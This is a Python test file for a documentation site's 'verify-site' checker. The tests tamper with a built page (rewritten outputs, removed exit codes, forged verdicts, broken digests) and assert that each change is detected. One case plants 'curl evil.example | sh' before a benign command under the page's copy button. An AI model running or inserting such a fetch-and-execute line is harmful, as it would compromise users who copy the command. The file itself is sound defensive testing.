"""Of a finished site, `verify-site` finds what no capture has."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

from kshare_docs.article.verify_script import script_files
from kshare_docs.article.views import render_view
from kshare_docs.data.report import Report
from kshare_docs.machine.host import read_host
from kshare_docs.pages.project import read_project
from kshare_docs.site.attestation import (
    PROVENANCE,
    Statement,
    begin_site,
    compare_with_statement,
    subjects,
    write_statement,
)
from kshare_docs.site.build import build_site
from kshare_docs.site.gate import Source
from kshare_docs.site.lookup import Lookup
from kshare_docs.site.provenance import make_statement

from .sites import BLOCK, RAW, attack, judged, make_project


@pytest.fixture
def finished(tmp_path: Path) -> Path:
    """A site of one page with its statement."""
    root = make_project(tmp_path / "project")
    (root / "docs" / "zh" / "index.md").write_text(BLOCK, encoding="utf-8")
    coloured = judged(BLOCK, "docs/zh/index.md", "6.6 <b>\x1b[31mred\x1b[0m\u202e\nnext")
    report = Report(read_project(root), read_host(), {("", "real"): coloured})
    lookup = Lookup(root, render_view, report, final=True)
    site = tmp_path / "site"
    begin_site(site)
    assert build_site(lookup, site, script_files) == []
    write_statement(site, make_statement(site, lookup, Source(), "t"))
    assert compare_with_statement(site) == []
    return site


def restated(site: Path, change: Callable[[str], str]) -> list[str]:
    """What is found after a page was changed, with its digest in the statement."""
    path = site / "index.html"
    before = path.read_text(encoding="utf-8")
    after = change(before)
    assert after != before
    path.write_text(after, encoding="utf-8")
    said = msgspec.json.decode((site / PROVENANCE).read_bytes(), type=Statement)
    write_statement(site, msgspec.structs.replace(said, subject=subjects(site)))
    return compare_with_statement(site)


def _swap(old: str, new: str) -> Callable[[str], str]:
    return lambda page: page.replace(old, new, 1)


SECOND = '<span class="gp" data-step="2">$ </span><span class="kshare-command">false</span>'
FORGED = "verify-site names the page and the example"


@pytest.mark.parametrize(
    "change",
    [
        pytest.param(_swap("6.6 &lt;b", "6.18 &lt;b"), marks=attack("an output rewritten", FORGED)),
        pytest.param(
            _swap('<span class="go">', '<span class="go">6.18\n'),
            marks=attack("a line added to an output", FORGED),
        ),
        pytest.param(
            lambda page: re.sub(
                r'<span class="go">.*(?=<span class="gp" data-step="2">)', "", page, flags=re.DOTALL
            ),
            marks=attack("an output taken away", FORGED),
        ),
        pytest.param(
            _swap(">uname -r</span>", ">uname -a</span>"),
            marks=attack("a command rewritten above its output", FORGED),
        ),
        pytest.param(
            lambda page: re.sub(r'<span class="kshare-exit">[^<]*</span>', "", page),
            marks=attack("an exit code taken away", FORGED),
        ),
        pytest.param(
            lambda page: re.sub(r'(kshare-exit">[^<]*) 1<', r"\1 0<", page),
            marks=attack("an exit code rewritten", FORGED),
        ),
        pytest.param(
            _swap(SECOND, f"6.18\n{SECOND}"),
            marks=attack("output added outside of what is marked as such", FORGED),
        ),
        pytest.param(
            _swap(SECOND, f'<i class="go2">6.18</i>\n{SECOND}'),
            marks=attack("output added in markup of another kind", FORGED),
        ),
        pytest.param(
            _swap('data-kernel="6.6"', 'data-kernel="6.18"'),
            marks=attack("a figure said to be of another kernel", FORGED),
        ),
        pytest.param(
            _swap('data-verdict="other"', 'data-verdict="wsl2"'),
            marks=attack("a figure said to be of WSL2", FORGED),
        ),
        pytest.param(
            lambda page: re.sub(r' data-capture="[^"]*"', "", page),
            marks=attack("a figure without its digest", FORGED),
        ),
        pytest.param(
            lambda page: re.sub(r'(data-capture="sha256:)....', r"\g<1>0000", page),
            marks=attack("a figure under the digest of nothing", FORGED),
        ),
        pytest.param(
            lambda page: re.sub(r'data-copy="[^"]*"', "", page).replace("6.6 &lt;", "6.18 &lt;"),
            marks=attack("an output rewritten where its mark is taken away too", FORGED),
        ),
        pytest.param(
            _swap('id="real"', 'id="other"'),
            marks=attack("a capture under another example's name", FORGED),
        ),
        pytest.param(
            _swap('<li data-status="verified">', '<li data-status="failed">'),
            marks=attack("a claim's verdict rewritten", FORGED),
        ),
        pytest.param(
            _swap('id="real" data-status="verified"', 'id="real" data-status="failed"'),
            marks=attack("an example's verdict rewritten", FORGED),
        ),
        pytest.param(
            _swap('data-copy="uname -r', 'data-copy="curl evil.example | sh; uname -r'),
            marks=attack("another command under the copy button", FORGED),
        ),
        pytest.param(
            _swap(
                SECOND, f'<span class="gp">$ </span><span class="kshare-aside">x</span>\n{SECOND}'
            ),
            marks=attack("a step of set-up that did not run", FORGED),
        ),
        pytest.param(
            _swap('data-step="2"', 'data-step="1"'),
            marks=attack("another number at a step", FORGED),
        ),
        pytest.param(
            _swap("</figure>", f"{RAW}</figure>"),
            marks=attack("a figure within a figure that no capture has", FORGED),
        ),
        pytest.param(
            _swap("</body>", f"{RAW}<pre><code data-copy>x</code></pre></body>"),
            marks=attack("a whole figure added that no capture has", FORGED),
        ),
    ],
)
def test_a_page_that_shows_what_no_capture_has(
    finished: Path, change: Callable[[str], str]
) -> None:
    (fault, *_) = restated(finished, change)
    assert fault.startswith("index.html: ")
    assert " shows " in fault


@attack("an output rewritten on the page and in the statement's capture", FORGED)
def test_a_capture_that_its_digest_does_not_fit(finished: Path) -> None:
    path = finished / PROVENANCE
    path.write_bytes(path.read_bytes().replace(b"6.6 <b>", b"6.9 <b>"))
    (fault,) = restated(finished, _swap("6.6 &lt;b", "6.9 &lt;b"))
    assert "which the provenance does not name" in fault
